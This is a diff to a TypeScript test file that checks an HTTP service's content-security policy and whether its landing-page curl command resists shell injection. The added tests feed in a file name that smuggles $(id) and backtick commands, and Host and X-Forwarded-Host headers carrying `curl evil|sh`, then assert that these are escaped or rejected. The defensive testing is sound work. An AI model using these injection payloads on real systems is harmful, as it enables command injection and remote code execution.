@@ -1,9 +1,10 @@
 // Tests the service as a whole: header fields, config and the log.
+import { execFileSync } from 'node:child_process'
 import { readFileSync } from 'node:fs'
 import { CONFIG_ERRORS, type Service } from '@qb/http'
 import { describe, expect, it } from 'vitest'
 import { RESERVED_IDS } from './app.ts'
-import { captureLog, makeApp } from './testing.ts'
+import { captureLog, makeApp, makeCsv } from './testing.ts'
 
 describe('a JSON response', () => {
   it('forbids content sniffing, and allows scripts of every origin to read it', async () => {
@@ -129,7 +130,7 @@ describe('LOG_REQUESTS', () => {
 })
 
 describe('an HTML page', () => {
-  it.each(['/', '/errors', '/docs', '/redoc'])(
+  it.each(['/', '/errors', '/docs', '/redoc', '/quiz/', '/quiz/index.html'])(
     '%s cannot load resources from other origins, and cannot be framed',
     async (url) => {
       const policy = String((await (await makeApp()).inject(url)).headers['content-security-policy'])
@@ -144,6 +145,34 @@ describe('an HTML page', () => {
       expect(policy).not.toMatch(/https?:|upgrade-insecure-requests/)
     },
   )
+})
+
+describe('the request on the landing page', () => {
+  it('is one word for a shell, whatever the name of the category', async () => {
+    const app = await makeApp({ files: { "o'brien $(id);`id`.csv": makeCsv('S', 1) } })
+    const { body } = await app.inject({ url: '/', headers: { host: 'quiz.example:1' } })
+    const line = /<pre>(curl .*)<\/pre>/.exec(body)?.[1] ?? ''
+    const command = line.replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&amp;', '&')
+    const shown = execFileSync('sh', ['-c', `curl() { printf '%s\\n' "$@"; }\n${command}`]).toString()
+    expect(shown).toMatch(/^http:\/\/quiz\.example:1\/api\/v1\/questions\/o'brien_\S+\n$/)
+    const { pathname, search } = new URL(shown.trim())
+    expect((await app.inject(pathname + search)).statusCode).toBe(200)
+  })
+
+  it('has no host or protocol that a client can make up', async () => {
+    const app = await makeApp({ environment: { TRUST_PROXY: 'true' } })
+    for (const [name, value] of [
+      ['host', `x';curl evil|sh;'`],
+      ['x-forwarded-host', `x';curl evil|sh;'`],
+      ['x-forwarded-proto', 'javascript'],
+    ] as const) {
+      const { statusCode, body } = await app.inject({ url: '/', headers: { [name]: value } })
+      expect([name, statusCode]).toEqual([name, 400])
+      expect(body).not.toMatch(/evil|javascript/)
+    }
+    const headers = { 'x-forwarded-host': 'quiz.example', 'x-forwarded-proto': 'https' }
+    expect((await app.inject({ url: '/', headers })).body).toContain('https://quiz.example/api')
+  })
 })
 
 describe('external-resources/README.md', () => {
